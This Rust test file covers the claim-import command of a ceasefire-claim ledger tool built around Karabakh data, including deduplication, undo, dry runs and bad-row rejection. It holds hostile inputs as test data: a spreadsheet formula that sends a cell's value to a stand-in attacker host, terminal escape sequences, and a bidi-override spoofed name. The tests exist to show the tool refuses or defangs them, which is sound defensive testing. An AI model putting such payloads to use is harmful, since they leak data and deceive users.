//! `import` of claims in tables: what goes in, what is refused and why, and that doing it twice is doing it once.

use insta::assert_snapshot;
use trucebook::model::Claim;

use crate::environment::World;
use crate::ledger_of::{claims, live};

const KARABAKH: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/gold/parties/karabakh.jsonl");
const REGISTER: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/claims.csv");
const BAD: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/claims-bad.csv");

/// A table of claims with these rows under a header.
fn table(rows: &[&str]) -> String {
    std::iter::once(&"claimant,stance,act,accused,occurred,place,count,source,ref,note")
        .chain(rows)
        .fold(String::new(), |table, row| table + row + "\n")
}

#[test]
fn the_register_goes_in_whole_and_its_equal_row_is_told() {
    let world = World::with_ledger();
    std::fs::copy(REGISTER, world.path("claims.csv")).unwrap();
    let ran = world.run(&["import", "claims.csv", "--parties", KARABAKH]);
    ran.prints_and_says(
        0,
        "claims.csv (our claims, CSV): 119 new, 1 equal row; C1 to C119 in B1\n\
         claims.csv:67: equal to C65, which came before it: taken once\n",
        "120 rows: 119 new, 1 equal row; 13 parties registered\n",
    );
    let before = std::fs::read(world.path("trucebook.db")).unwrap();
    let again = world.run(&["import", "claims.csv", "--parties", KARABAKH]);
    again.prints_and_says(
        0,
        "claims.csv (our claims, CSV): 0 new, 120 duplicates\n",
        "120 rows: 0 new, 120 duplicates\n",
    );
    assert!(before == std::fs::read(world.path("trucebook.db")).unwrap(), "the file is byte for byte the same");
}

#[test]
fn what_was_undone_can_be_imported_again() {
    let world = World::with_ledger();
    std::fs::copy(REGISTER, world.path("claims.csv")).unwrap();
    let import = ["import", "claims.csv", "--parties", KARABAKH];
    world.run(&import);
    let first: Vec<Claim> = claims(&world);
    assert_eq!(world.run(&["undo", "B1"]).status, 0);
    assert_eq!(live(&world), 0);
    let ran = world.run(&import);
    assert!(
        ran.stdout.starts_with("claims.csv (our claims, CSV): 119 new, 1 equal row; C120 to C238 in B3\n"),
        "{ran}"
    );
    assert_eq!(claims(&world), first);
}

#[test]
fn each_bad_row_is_refused_with_its_reason() {
    let world = World::with_ledger();
    std::fs::copy(BAD, world.path("claims-bad.csv")).unwrap();
    let ran = world.run(&["import", "claims-bad.csv", "--add-parties"]);
    assert_snapshot!(ran, @r"
    status 1
    --- stdout
    claims-bad.csv (our claims, CSV): 1 new, 19 refused; C1 in B1
    --- stderr
    error: claims-bad.csv:2: noted_at: `2017-13-02` is no date: months go from 01 to 12, seasons from 21 to 24
      hint: write 2020-10-10, 2020-10, 2020, 2020-10-10T12:05, 2020-10-09/2020-10-10; ? uncertain, ~ about, ../ and /.. open
    error: claims-bad.csv:3: occurred: `2017-02-30` is no date: that month has no such day
      hint: write 2020-10-10, 2020-10, 2020, 2020-10-10T12:05, 2020-10-09/2020-10-10; ? uncertain, ~ about, ../ and /.. open
    error: claims-bad.csv:4: stance: `insinuates` is no stance
      hint: one of: alleges, denies, acknowledges, observes, declares, no-comment
    error: claims-bad.csv:5: act: `cyber-attack` is no act
      hint: one of: violation, small-arms-fire, shelling, missile-strike, air-strike, drone-strike, attack, explosion, overflight, movement, fortification, detention, obstruction, losses, truce-agreed, truce-begins, truce-extended, truce-ends
    error: claims-bad.csv:6: count: `-5` is no number: it is not a whole number of 0 or more
      hint: write 5, 3-5, 20+, >20, <10, ~40 or 0; leave it out where it is unknown
    error: claims-bad.csv:7: killed: `9-4` is no number: the upper bound lies below the lower
      hint: write 5, 3-5, 20+, >20, <10, ~40 or 0; leave it out where it is unknown
    error: claims-bad.csv:8: count: `99999999999999999999` is no number: it is too large
      hint: write 5, 3-5, 20+, >20, <10, ~40 or 0; leave it out where it is unknown
    error: claims-bad.csv:9: the row has 16 columns, and the header 17
      hint: a comma in a cell needs quotes around the cell; an empty cell needs its comma all the same
    error: claims-bad.csv:10: the row has 18 columns, and the header 17
      hint: a comma in a cell needs quotes around the cell; an empty cell needs its comma all the same
    error: claims-bad.csv:11: place: `Tal�(sh�` is no sound UTF-8 after byte 3
      hint: save the file as UTF-8
    error: claims-bad.csv:13: claimant: `\u{1b}[2J\u{1b}[31mAzerbaijan\u{1b}[0m\u{7}\rArmenia` holds control characters
      hint: type the cell anew: what was pasted holds characters that cannot be seen
    error: claims-bad.csv:14: `lat` is 95, outside -90..90
      hint: write degrees as decimals, 40.68 and 46.36; south and west are negative
    error: claims-bad.csv:15: `lat` and `lon` go together: one of them is blank
      hint: write degrees as decimals, 40.68 and 46.36; south and west are negative
    error: claims-bad.csv:16: occurred: `2017-03-06/2017-03-01` is no date: the end lies before the start
      hint: write 2020-10-10, 2020-10, 2020, 2020-10-10T12:05, 2020-10-09/2020-10-10; ? uncertain, ~ about, ../ and /.. open
    error: claims-bad.csv:17: note: the cell holds 40960 bytes, and 32768 are the most
      hint: keep long texts as dispatches of their own, and quote the sentence that matters
    error: claims-bad.csv:18: claimant: the cell is blank
      hint: a text that quotes nobody has `-` as its claimant
    error: claims-bad.csv:19: place: `Chila\u{0}burt` holds control characters
      hint: type the cell anew: what was pasted holds characters that cannot be seen
    error: claims-bad.csv:20: accused: `\u{202e}ainemrA\u{202c}\u{200b}`: a name cannot hold control, zero-width or bidi characters
      hint: type the name anew: what was pasted holds characters that cannot be seen
    error: claims-bad.csv:21: a quote is opened in this row and never closed, so that it takes in the rest of the file
      hint: close the quote, or double it where it is meant as such, and import the file again
    20 rows: 1 new, 19 refused
    mend the refused rows and import the file again: rows already in the ledger are skipped
    built-in parties registered: Azerbaijan, Armenia
    ");
    // The one sound row keeps its formulas as text, and nobody came of the forged names.
    let kept = claims(&world);
    assert_eq!(kept[0].source.as_deref(), Some("@SUM(1+1)"));
    assert_eq!(kept[0].note.as_deref(), Some(r#"=HYPERLINK("https://evil.example/?x="&A1,"see video")"#));
    assert_eq!(world.run(&["party", "list"]).stdout.matches("state").count(), 2);
}

#[test]
fn a_half_good_file_keeps_its_good_half_and_the_mended_rows_follow() {
    let world = World::with_ledger();
    let row = |day: &str, n: u32| format!("Armenia,alleges,shelling,Azerbaijan,{day},Terter,{n},Wire,,");
    world.file(
        "a.csv",
        table(&[&row("2020-10-01", 1), &row("2020-13-01", 2), &row("2020-10-03", 3), &row("2020-10-04", 4)]),
    );
    let ran = world.run(&["import", "a.csv", "--rejects", "refused.csv"]);
    assert_eq!(ran.status, 1, "{ran}");
    assert!(ran.stdout.starts_with("a.csv (our claims, CSV): 3 new, 1 refused; C1 to C3 in B1\n"), "{ran}");
    assert!(ran.stderr.ends_with("refused rows written: 1; mend them and import that file\n"), "{ran}");
    let refused = std::fs::read_to_string(world.path("refused.csv")).unwrap();
    world.file("refused.csv", refused.replace("2020-13-01,T", "2020-10-02,T"));
    let ran = world.run(&["import", "refused.csv", "--rejects", "again.csv"]);
    ran.prints_and_says(0, "refused.csv (our claims, CSV): 1 new; C4 in B2\n", "1 row: 1 new\n");
    assert!(!world.path("again.csv").exists());
}

#[test]
fn strict_takes_all_or_nothing() {
    let world = World::new();
    world.file(
        "a.csv",
        table(&["Armenia,alleges,shelling,Azerbaijan,2020-10-01,,,,,", "Armenia,alleges,shelled,,,,,,,"]),
    );
    let ran = world.run(&["import", "a.csv", "--strict", "--tz", "UTC"]);
    assert_eq!((ran.status, ran.stdout.as_str()), (2, ""), "{ran}");
    assert!(ran.stderr.starts_with("error: a.csv:3: act: `shelled` is no act\n"), "{ran}");
    assert!(ran.stderr.contains("error: 1 refused, so that nothing was written\n"), "{ran}");
    assert_eq!(world.files(), ["a.csv"]);
}

#[test]
fn a_row_of_the_same_reference_takes_the_place_of_the_one_before() {
    let world = World::with_ledger();
    let row =
        |count: &str| table(&[&format!("Armenia,alleges,shelling,Azerbaijan,2020-10-01,Terter,{count},Wire,k7,")]);
    world.file("a.csv", row("5"));
    world.file("b.csv", row("6"));
    world.run(&["import", "a.csv"]);
    let ran = world.run(&["import", "b.csv"]);
    ran.prints_and_says(
        0,
        "b.csv (our claims, CSV): 0 new, 1 replacing another\nb.csv:2: C2 replaces C1 in B2\n",
        "1 row: 0 new, 1 replacing another\n",
    );
    // An older version of a row does not come back over the newer one.
    world.run(&["import", "a.csv"]).prints_and_says(
        0,
        "a.csv (our claims, CSV): 0 new, 1 duplicate\n",
        "1 row: 0 new, 1 duplicate\n",
    );
    assert_eq!(live(&world), 1);
}

#[test]
fn the_reference_belongs_to_its_source() {
    let world = World::with_ledger();
    world.file("a.csv", "claimant,stance,act,ref\nArmenia,alleges,shelling,1\n");
    for source in ["Desk A", "Desk B"] {
        let ran = world.run(&["import", "a.csv", "--source", source]);
        assert!(ran.stderr.starts_with("1 row: 1 new"), "{ran}");
    }
    assert_eq!(live(&world), 2);
}

#[test]
fn a_dry_run_tells_each_row_and_writes_nothing() {
    let world = World::with_ledger();
    world.file("a.csv", table(&["Armenia,alleges,shelling,Azerbaijan,2020-10-01,Terter,5,Wire,k7,"]));
    world.run(&["import", "a.csv"]);
    world.file(
        "b.csv",
        table(&[
            "Armenia,alleges,shelling,Azerbaijan,2020-10-01,Terter,5,Wire,k7,",
            "Armenia,alleges,shelling,Azerbaijan,2020-10-01,Terter,6,Wire,k7,",
            "Armenia,denies,attack,Armenia,2020-10-02,Terter,,Wire,,",
            "Armenia,denies,attack,Armenia,2020-10-02,Terter,,Wire,,",
            "Nobody,denies,attack,Armenia,2020-10-02,Terter,,Wire,,",
        ]),
    );
    let ran = world.run(&["import", "b.csv", "--dry-run"]);
    assert_snapshot!(ran, @r"
    status 1
    --- stdout
    C1 is there already (b.csv:2)
    C2 would replace C1 (b.csv:3)
    C3 would be added (b.csv:4)
    b.csv (our claims, CSV): 1 new, 1 replacing another, 1 duplicate, 1 equal row, 1 refused; C3
    b.csv:5: equal to C3, which came before it: taken once
    --- stderr
    error: b.csv:6: claimant: no party bears the name `Nobody`
      hint: register it with `trucebook party add`, or all such names with --add-parties
    5 rows: 1 new, 1 replacing another, 1 duplicate, 1 equal row, 1 refused
    mend the refused rows and import the file again: rows already in the ledger are skipped
    ");
    assert_eq!(live(&world), 1);
}

#[test]
fn foreign_columns_hxl_tags_and_semicolons_are_read() {
    let world = World::with_ledger();
    world.file(
        "olay.csv",
        "\u{feff}Claimant;STANCE;Act;Tarih;Konum;count;Renk\n#org;;#event;#date;#loc;;\nArmenia;alleges;shelling/mortar;2020-10-01~;Hadrut; Martuni;20+;mavi\n"
            .replace("Hadrut; Martuni", "\"Hadrut; Martuni\""),
    );
    let ran = world.run(&["import", "olay.csv", "--map", "Tarih=occurred,Konum=place"]);
    ran.prints_and_says(
        0,
        "olay.csv (our claims, semicolon CSV): 1 new; C1 in B1\n",
        "olay.csv: columns not taken: Renk\n1 row: 1 new\nbuilt-in parties registered: Armenia\n",
    );
    let claim = &claims(&world)[0];
    assert_eq!(claim.place, ["Hadrut", "Martuni"]);
    assert_eq!(
        (claim.occurred.unwrap().to_string(), claim.figures[0].to_string()),
        ("2020-10-01~".into(), "20+ violation".into())
    );
}

#[test]
fn figures_and_losses_are_read_in_full() {
    let world = World::with_ledger();
    world.file(
        "a.tsv",
        "claimant\tstance\tact\toccurred\tfigures\tlosses\tkilled\n\
         Armenia\talleges\tviolation\t2018-09-23/2018-09-29\t>230 violation 2018-09-23/2018-09-29; ~3000 shot 2018-09-23/2018-09-29\t\
         Azerbaijan: killed 9 civilian, wounded 30+; Armenia: missing 2\t\n\
         Armenia\talleges\tviolation\t2018-09-23/2018-09-29\t497 violation since 2025-10-10; 84 explosion of 212 violation\t\t0\n",
    );
    let ran = world.run(&["import", "a.tsv"]);
    assert_eq!(ran.status, 0, "{ran}");
    let told: Vec<_> = claims(&world)
        .iter()
        .map(|claim| {
            let figures: Vec<_> = claim.figures.iter().map(ToString::to_string).collect();
            let losses: Vec<_> = claim.losses.iter().map(ToString::to_string).collect();
            (figures.join("; "), losses.join("; "))
        })
        .collect();
    assert_eq!(told[0].0, ">230 violation 2018-09-23/2018-09-29; ~3000 shot 2018-09-23/2018-09-29");
    assert_eq!(told[0].1, "Azerbaijan: killed 9, wounded 30+ civilian; Armenia: missing 2");
    assert_eq!(told[1].0, "497 violation since 2025-10-10; 84 explosion of 212 violation");
    assert_eq!(told[1].1, "?: killed 0");
}

#[test]
fn json_lines_are_read_and_refused_line_by_line() {
    let world = World::with_ledger();
    let good = r#"{"claimant": "Armenia", "stance": "alleges", "act": "shelling", "accused": "Azerbaijan"}"#;
    let bad = r#"{"claimant": "Armenia", "stance": "alleges", "act": "shelled"}"#;
    world.file("a.jsonl", format!("{good}\n\n{bad}\n{{\n"));
    let ran = world.run(&["import", "a.jsonl", "--rejects", "refused.jsonl"]);
    assert_snapshot!(ran, @r"
    status 1
    --- stdout
    a.jsonl (our claims, JSONL): 1 new, 2 refused; C1 in B1
    --- stderr
    error: a.jsonl:3: no claim: `shelled` is no act at line 1 column 62
      hint: `trucebook extract --schema` prints the shape of a claim
    error: a.jsonl:4: no claim: EOF while parsing an object at line 1 column 1
      hint: `trucebook extract --schema` prints the shape of a claim
    3 rows: 1 new, 2 refused
    mend the refused rows and import the file again: rows already in the ledger are skipped
    built-in parties registered: Armenia, Azerbaijan
    refused rows written: 2; mend them and import that file
    ");
    let refused = std::fs::read_to_string(world.path("refused.jsonl")).unwrap();
    world.file("refused.jsonl", refused.lines().next().unwrap().replace("\"shelled\"", "\"attack\""));
    let ran = world.run(&["import", "refused.jsonl"]);
    ran.prints_and_says(0, "refused.jsonl (our claims, JSONL): 1 new; C2 in B2\n", "1 row: 1 new\n");
}

#[test]
fn a_table_that_is_not_known_is_told() {
    let world = World::with_ledger();
    for (name, content, message) in [
        ("a.csv", "x,y\n1,2\n", "error: a.csv: no known table: its header begins with `x`, `y`\n"),
        (
            "b.csv",
            "claimant,act,date\nA,attack,2020\n",
            "error: b.csv: no known table: its header begins with `claimant`, `act`, `date`\n",
        ),
        ("c.jsonl", "{\"x\": 1}\n", "error: c.jsonl: no known JSON lines: the first has the keys `x`\n"),
    ] {
        world.file(name, content);
        let ran = world.run(&["import", name]);
        assert_eq!(ran.status, 2, "{ran}");
        assert!(ran.stderr.starts_with(message), "{ran}");
    }
    let ran = world.run(&["import", "b.csv", "--as", "claims"]);
    assert!(ran.stderr.starts_with("error: b.csv: the table has no column `stance`\n"), "{ran}");
}
